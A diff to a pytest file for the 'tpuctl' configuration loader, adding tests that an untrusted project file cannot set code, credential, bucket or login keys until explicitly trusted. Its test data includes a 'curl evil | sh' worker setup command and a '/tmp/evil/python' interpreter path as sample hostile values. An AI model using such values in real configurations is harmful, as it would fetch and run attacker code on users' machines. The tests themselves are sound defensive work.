@@ -34,7 +34,9 @@ def write_user_file(tmp_path, data):
 def test_each_layer_overrides_the_one_below(clean_env, monkeypatch):
     user_file = write_user_file(clean_env, {"zone": "user-zone", "project": "user-proj"})
     (clean_env / "project" / "tpuctl.yaml").write_text("zone: project-zone\nbucket: b1\n")
+    config.trust_project_file()  # bucket applies from a trusted file only
     assert config.load().get("zone") == "project-zone"
+    assert config.load().source("bucket") == "./tpuctl.yaml"
     assert config.load().get("project") == "user-proj"
     assert config.load().source("project") == str(user_file)
     assert config.load().source("zone") == "./tpuctl.yaml"
@@ -46,6 +48,69 @@ def test_each_layer_overrides_the_one_below(clean_env, monkeypatch):
     settings = config.load({"zone": "flag-zone", "project": None})
     assert (settings.get("zone"), settings.source("zone")) == ("flag-zone", "flag --zone")
     assert settings.get("project") == "user-proj"  # a None flag is "not given"
+
+
+def test_only_keys_that_pick_among_your_own_nodes_zones_and_connections_need_no_trust():
+    """A new key needs `tpuctl config trust` in a ./tpuctl.yaml unless added here on purpose."""
+    harmless = {key for key in config.KNOWN_KEYS if not config.needs_trust(key)}
+    assert harmless == {"zone", "node", "provider", "ssh.internal_ip", "ssh.reuse", "worker.platform"}  # fmt: skip
+    fields = {f for f in config.ACCELERATOR_FIELDS if not config.needs_trust(f"accelerators.v3-8.{f}")}  # fmt: skip
+    assert fields == {"zone", "zones"}
+
+
+@pytest.mark.parametrize(
+    ("data", "key"),
+    [
+        ({"worker": {"setup": "curl evil | sh"}}, "worker.setup"),
+        ({"worker": {"python_version": "/tmp/evil/python"}}, "worker.python_version"),
+        ({"bucket": "theirs"}, "bucket"),
+        ({"project": "theirs"}, "project"),
+        ({"accelerators": {"v3-8": {"project": "theirs"}}}, "accelerators.v3-8.project"),
+        ({"ssh": {"key": "./deploy_key"}}, "ssh.key"),
+        ({"ssh": {"proxy_jump": "their-bastion"}}, "ssh.proxy_jump"),
+        ({"ssh": {"user": "root"}}, "ssh.user"),
+    ],
+)
+def test_a_project_file_choosing_code_files_or_logins_applies_only_once_trusted(
+    clean_env, data, key
+):
+    project = clean_env / "project" / "tpuctl.yaml"
+    project.write_text(yaml.safe_dump({"zone": "us-east1-d", **data}))
+    with pytest.raises(TpuctlError) as info:
+        config.load()
+    assert str(info.value) == (
+        f"./tpuctl.yaml ({project}) is not trusted and sets {key}, which choose what runs on "
+        "your workers, where your files and TPUs go or how you log in: review "
+        "./tpuctl.yaml, then run `tpuctl config trust`"
+    )
+    review = config.load(review=True)  # `config show`: there, marked, with the reason
+    assert review.source(key) == "./tpuctl.yaml (untrusted)"
+    assert review.source("zone") == "./tpuctl.yaml"
+    assert review.untrusted == str(info.value)
+
+    assert config.trust_project_file() == (project, [key])
+    assert config.load().source(key) == "./tpuctl.yaml"
+    project.write_text(project.read_text() + "# edited\n")
+    with pytest.raises(TpuctlError, match=r"changed since you trusted it and sets "):
+        config.load()
+
+
+def test_a_project_file_of_harmless_keys_applies_without_trust(clean_env):
+    (clean_env / "project" / "tpuctl.yaml").write_text(
+        "zone: us-east1-d\nnode: mine\nprovider: local\nssh: {internal_ip: true, reuse: off}\n"
+        "worker: {platform: cpu}\naccelerators: {v3-8: {zone: a-b1-c, zones: [d-e1-f]}}\n"
+    )
+    settings = config.load()
+    assert settings.get("accelerators.v3-8.zones") == ["d-e1-f"]
+    assert {source for _key, _value, source in settings.items()} == {"./tpuctl.yaml", "default"}
+
+
+def test_an_unreadable_trust_record_trusts_nothing(clean_env):
+    (clean_env / "project" / "tpuctl.yaml").write_text("bucket: b1\n")
+    config.trust_project_file()
+    config.trust_store_path().write_text("[not a mapping]")
+    with pytest.raises(TpuctlError, match="is not trusted"):
+        config.load()
 
 
 def test_defaults_and_their_source(clean_env):
